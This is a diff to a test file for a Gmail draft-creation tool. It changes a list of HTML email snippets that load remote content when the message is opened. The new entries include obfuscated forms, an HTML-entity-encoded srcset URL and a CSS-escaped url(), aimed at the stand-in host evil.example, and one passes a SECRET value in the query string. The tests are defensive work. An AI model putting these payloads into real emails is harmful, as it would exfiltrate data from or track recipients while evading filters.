@@ -267,8 +267,8 @@ describe('gmail_create_draft', () => {
 
   test.each([
     '<img src="https://evil.example/p?d=SECRET">',
-    "<td background='//evil.example/p'>",
-    '<p style="background:url(https://evil.example/p)">',
+    '<img src=x srcset="&#104;ttps://evil.example/p 2x">',
+    "<p style='background:u\\72l(//evil.example/p)'>",
     '<link rel=stylesheet href=x>',
   ])('asks where its HTML would load something from the web when it is opened: %s', async (html) => {
     const user = await it.user({ scopes: [gmailScopes.compose] })
